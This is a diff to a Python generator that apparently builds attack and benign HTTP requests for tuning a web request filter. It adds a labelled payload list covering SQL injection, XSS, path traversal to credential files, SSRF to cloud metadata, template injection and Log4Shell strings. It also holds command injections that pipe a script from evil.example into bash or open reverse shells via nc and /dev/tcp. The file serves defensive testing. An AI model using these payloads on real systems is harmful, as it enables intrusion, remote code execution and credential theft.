@@ -131,6 +131,484 @@ SCANNER_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/install.ph
 FIELDS = ["comment", "q", "name", "title", "description", "url", "callback", "file", "path", "host",
           "search", "note", "redirect", "template", "username", "email", "filter", "sort", "id"]
 
+# A second batch, written after the first rules (so also tuned on): (category, payload);
+# UA: goes in the user agent, PATH: is the request path, anything else a JSON field or query.
+SECOND_BATCH = [
+ [
+  "sqli",
+  "' or 1=1 limit 1#"
+ ],
+ [
+  "sqli",
+  "1' and '1'='1"
+ ],
+ [
+  "sqli",
+  "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055"
+ ],
+ [
+  "sqli",
+  "1;SELECT IF((8303>8302),SLEEP(9),2356)#"
+ ],
+ [
+  "sqli",
+  "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- "
+ ],
+ [
+  "sqli",
+  "admin\")-- "
+ ],
+ [
+  "sqli",
+  "') or ('x')=('x"
+ ],
+ [
+  "sqli",
+  "\" or 1=1--"
+ ],
+ [
+  "sqli",
+  "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables"
+ ],
+ [
+  "sqli",
+  "' HAVING 1=1--"
+ ],
+ [
+  "sqli",
+  "'+(select*from(select(sleep(20)))a)+'"
+ ],
+ [
+  "sqli",
+  "1 OR pg_sleep(5)--"
+ ],
+ [
+  "sqli",
+  "-1' or 2 > 1 --"
+ ],
+ [
+  "sqli",
+  "%' AND 1=1 AND '%'='"
+ ],
+ [
+  "sqli",
+  "'||(SELECT version())||'"
+ ],
+ [
+  "sqli",
+  "1' AND 1=(SELECT 1 FROM dual)--"
+ ],
+ [
+  "xss",
+  "<svg onload=alert(1)//"
+ ],
+ [
+  "xss",
+  "<img src=x:alert(alt) onerror=eval(src) alt=0>"
+ ],
+ [
+  "xss",
+  "<a href=\"jav&#x09;ascript:alert('XSS');\">Click</a>"
+ ],
+ [
+  "xss",
+  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
+ ],
+ [
+  "xss",
+  "\"><svg/onload=confirm`1`>"
+ ],
+ [
+  "xss",
+  "<body background=\"javascript:alert(1)\">"
+ ],
+ [
+  "xss",
+  "<sVg OnLoAd=alert(1)>"
+ ],
+ [
+  "xss",
+  "<keygen autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "'-alert(1)-'"
+ ],
+ [
+  "xss",
+  "\";alert(1);//"
+ ],
+ [
+  "xss",
+  "</title><script>alert(1)</script>"
+ ],
+ [
+  "xss",
+  "<img src=\"x\" onerror=\"&#x61;lert(1)\">"
+ ],
+ [
+  "xss",
+  "<audio src=x onerror=alert(1)>"
+ ],
+ [
+  "xss",
+  "<select autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "<textarea autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "<script src=//evil.example/x.js></script>"
+ ],
+ [
+  "xss",
+  "{{constructor.constructor('alert(1)')()}}"
+ ],
+ [
+  "path_traversal",
+  "../../../../../../etc/passwd%00"
+ ],
+ [
+  "path_traversal",
+  "..%255c..%255c..%255cwindows%255cwin.ini"
+ ],
+ [
+  "path_traversal",
+  "/../../../../../../../../../../etc/hosts"
+ ],
+ [
+  "path_traversal",
+  "..../..../..../etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "\\..\\..\\..\\..\\..\\windows\\system32\\config\\sam"
+ ],
+ [
+  "path_traversal",
+  "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"
+ ],
+ [
+  "path_traversal",
+  "file:/etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "../../../../../app/config/database.yml"
+ ],
+ [
+  "command_injection",
+  ";ls -la"
+ ],
+ [
+  "command_injection",
+  "|id"
+ ],
+ [
+  "command_injection",
+  "`whoami`"
+ ],
+ [
+  "command_injection",
+  "$(cat /etc/passwd)"
+ ],
+ [
+  "command_injection",
+  "; curl http://evil.example/shell.sh | bash"
+ ],
+ [
+  "command_injection",
+  "&& ping -c 3 evil.example"
+ ],
+ [
+  "command_injection",
+  "| nc -e /bin/bash 10.0.0.1 4444"
+ ],
+ [
+  "command_injection",
+  "; sleep 10"
+ ],
+ [
+  "command_injection",
+  "127.0.0.1 | dir"
+ ],
+ [
+  "command_injection",
+  ";system('id')"
+ ],
+ [
+  "command_injection",
+  "%0Aid"
+ ],
+ [
+  "command_injection",
+  "a%0a%0dcat%20/etc/passwd"
+ ],
+ [
+  "command_injection",
+  "|| whoami"
+ ],
+ [
+  "command_injection",
+  "; ls${IFS}-la"
+ ],
+ [
+  "command_injection",
+  "$(nslookup evil.example)"
+ ],
+ [
+  "command_injection",
+  "; /bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1'"
+ ],
+ [
+  "ssrf",
+  "http://127.0.0.1:22"
+ ],
+ [
+  "ssrf",
+  "http://[::]:80/"
+ ],
+ [
+  "ssrf",
+  "http://0x7f.0x0.0x0.0x1/"
+ ],
+ [
+  "ssrf",
+  "http://localhost:6379/"
+ ],
+ [
+  "ssrf",
+  "http://169.254.169.254/computeMetadata/v1/instance/"
+ ],
+ [
+  "ssrf",
+  "http://metadata/computeMetadata/v1/"
+ ],
+ [
+  "ssrf",
+  "http://192.168.0.1:8080/login"
+ ],
+ [
+  "ssrf",
+  "http://10.1.2.3/internal/api"
+ ],
+ [
+  "ssrf",
+  "https://127.0.0.1/"
+ ],
+ [
+  "ssrf",
+  "gopher://localhost:25/_HELO"
+ ],
+ [
+  "ssrf",
+  "http://2852039166/"
+ ],
+ [
+  "ssrf",
+  "http://0251.0376.0251.0376/"
+ ],
+ [
+  "ssrf",
+  "http://[::ffff:a9fe:a9fe]/"
+ ],
+ [
+  "ssrf",
+  "http://127.0.0.1%2523@evil.example/"
+ ],
+ [
+  "ssrf",
+  "http://localtest.me/"
+ ],
+ [
+  "ssrf",
+  "http://spoofed.burpcollaborator.net"
+ ],
+ [
+  "ssti",
+  "{{7*7}}[[5*5]]"
+ ],
+ [
+  "ssti",
+  "${{<%[%'\"}}%\\."
+ ],
+ [
+  "ssti",
+  "{{ config }}"
+ ],
+ [
+  "ssti",
+  "{{ self.__init__.__globals__.__builtins__ }}"
+ ],
+ [
+  "ssti",
+  "<%= system(\"id\") %>"
+ ],
+ [
+  "ssti",
+  "${7*7}"
+ ],
+ [
+  "ssti",
+  "#{7*7}"
+ ],
+ [
+  "ssti",
+  "{{'a'.toUpperCase()}}"
+ ],
+ [
+  "ssti",
+  "{php}echo `id`;{/php}"
+ ],
+ [
+  "ssti",
+  "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"
+ ],
+ [
+  "jndi",
+  "${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/d2dldA==}"
+ ],
+ [
+  "jndi",
+  "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}"
+ ],
+ [
+  "jndi",
+  "${jndi:${lower:d}${lower:n}${lower:s}://evil.example}"
+ ],
+ [
+  "jndi",
+  "${j${lower:n}di:ldap://x/}"
+ ],
+ [
+  "jndi",
+  "${${::-j}ndi:rmi://evil/a}"
+ ],
+ [
+  "scanner",
+  "UA:Mozilla/5.0 (compatible; Nuclei)"
+ ],
+ [
+  "scanner",
+  "UA:sqlmap/1.4"
+ ],
+ [
+  "scanner",
+  "UA:Nikto"
+ ],
+ [
+  "command_injection",
+  "UA:() { :; }; /bin/bash -c 'cat /etc/passwd'"
+ ],
+ [
+  "jndi",
+  "UA:${jndi:ldap://evil/a}"
+ ],
+ [
+  "scanner",
+  "PATH:/.git/HEAD"
+ ],
+ [
+  "scanner",
+  "PATH:/.env.production"
+ ],
+ [
+  "scanner",
+  "PATH:/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php"
+ ],
+ [
+  "scanner",
+  "PATH:/admin/config.php.bak"
+ ],
+ [
+  "scanner",
+  "PATH:/backup.sql"
+ ],
+ [
+  "path_traversal",
+  "PATH:/.well-known/../etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "PATH:/api/../../../etc/passwd"
+ ],
+ [
+  "scanner",
+  "PATH:/phpinfo.php"
+ ],
+ [
+  "scanner",
+  "PATH:/debug/pprof/"
+ ]
+]
+# Tricky benign values written with the second batch.
+SECOND_BENIGN = [
+ "I think we should SELECT the top 10 users by score and ORDER BY created_at.",
+ "Fix: use `cursor.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))` instead of string formatting.",
+ "Ran `rm -rf node_modules && npm install` and it works now.",
+ "Try `docker compose up -d && docker compose logs -f api`",
+ "The bug: `if user.role == 'admin' or user.id == 1:` grants too much.",
+ "Use `cat config.yaml | grep port` to check.",
+ "She said: \"I'll be there at 5 -- don't wait.\"",
+ "Tom's \"special\" offer: 2 for 1!",
+ "<p>Watch: <iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" frameborder=\"0\" allowfullscreen></iframe></p>",
+ "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener\">link</a></p>",
+ "<img src=\"https://example.com/a.png\" alt=\"a\" style=\"width:100%\">",
+ "<div class=\"note\"><strong>Note:</strong> back up first.</div>",
+ "<p>Formula: a < b && c > d</p>",
+ "Windows path: C:\\Program Files\\App\\bin\\app.exe",
+ "Linux path: /usr/local/bin/python3",
+ "See ../README.md for details",
+ "The config lives in /etc/nginx/nginx.conf on the server.",
+ "Our staging server is at http://localhost:8080 for now.",
+ "callback: https://hooks.example.com/ramparts?id=42&sig=abc",
+ "Email me at o'brien@example.ie",
+ "{\"nested\": \"json in a string\"}",
+ "SELECT",
+ "Union Pacific Railroad",
+ "Drop-off at 3pm; pick-up at 5pm",
+ "1 + 1 = 2, and 2 * 3 = 6",
+ "Price: $5 (or 4 for members)",
+ "Hello {{name}}, your order {{order_id}} has shipped.",
+ "Dear ${firstName}, welcome!",
+ "Use the `sleep 5` command in the script to wait.",
+ "git commit -m \"fix: handle ' in names\"",
+ "The regex is /^[a-z]+$/i",
+ "x = y || z; if (a && b) { return; }",
+ "for i in $(seq 1 10); do echo $i; done",
+ "<b>Bold</b> and <i>italic</i> and <u>underline</u>",
+ "&lt;script&gt; tags are escaped by the template",
+ "Use onclick handlers sparingly.",
+ "Javascript: the good parts is a great book.",
+ "We use Java, JavaScript and Python.",
+ "The file was uploaded to /uploads/2024/05/photo.jpg",
+ "My password is 'hunter2' -- just kidding.",
+ "OR-tools is a Google library for optimization.",
+ "100% cotton; machine wash 30°C",
+ "Question: is 1=1? or 2=2?",
+ "I'd like to order 3 pizzas -- 2 margherita, 1 pepperoni.",
+ "Meet me @ the café; it's on 5th & Main.",
+ "Our API: GET /v1/users?limit=10&offset=20",
+ "Run: curl -X POST https://api.example.com/v1/items -d '{\"a\":1}'",
+ "Set env: export DATABASE_URL=postgres://user:pass@db.internal:5432/app",
+ "ping me when you're back",
+ "cat pictures are the best",
+ "Contact: John O'Connor <john@example.com>",
+ "The <strong>best</strong> deals & offers",
+ "Recipe: mix 2 cups flour | 1 cup sugar | 3 eggs",
+ "/home/alice/projects/ramparts",
+ "Tables: users, orders, order_lines",
+ "DELETE this comment please",
+ "insert coin to continue",
+ "update: shipped today"
+]
+
 
 def _ua() -> str:
     return rng.choice([
@@ -181,6 +659,17 @@ def attacks() -> list[dict]:
         out.append({"id": f"scanner-ua-{i:03d}", "category": "scanner", "source": "tuning: tool defaults",
                     "request": {"method": "GET", "path": "/api/items", "query": "",
                                 "headers": {"user-agent": ua}, "body": None}})
+    for i, (category, payload) in enumerate(SECOND_BATCH):
+        if payload.startswith("UA:"):
+            req = {"method": "GET", "path": "/api/items", "query": "",
+                   "headers": {"user-agent": payload[3:]}, "body": None}
+        elif payload.startswith("PATH:"):
+            req = {"method": "GET", "path": payload[5:], "query": "",
+                   "headers": {"user-agent": _ua()}, "body": None}
+        else:
+            req = _place(payload, 2 * i + (i % 2))  # JSON fields, queries, forms, cookies, headers
+        out.append({"id": f"{category}-b{i:03d}", "category": category,
+                    "source": "tuning: second batch", "request": req})
     for i, path in enumerate(SCANNER_PATHS):
         out.append({"id": f"scanner-path-{i:03d}", "category": "scanner", "source": "tuning: probe lists",
                     "request": {"method": "GET", "path": "/static" + path, "query": "",
@@ -292,6 +781,9 @@ def benign() -> list[dict]:
         add("free_text", {"method": "POST", "path": "/api/feedback", "query": "",
                           "headers": {"user-agent": _ua(), "content-type": "application/x-www-form-urlencoded"},
                           "body": "rating=4&text=" + quote(t)})
+    for i, text in enumerate(SECOND_BENIGN):
+        field = ("comment", "body", "note", "description")[i % 4]
+        add("second_batch", post({field: text, "id": i}, "/api/comments"))
     for i in range(40):
         order = {"customer": {"id": f"c_{i:05d}", "name": rng.choice(NAMES)},
                  "lines": [{"sku": f"SKU-{rng.randrange(1000, 9999)}", "qty": rng.randrange(1, 5),
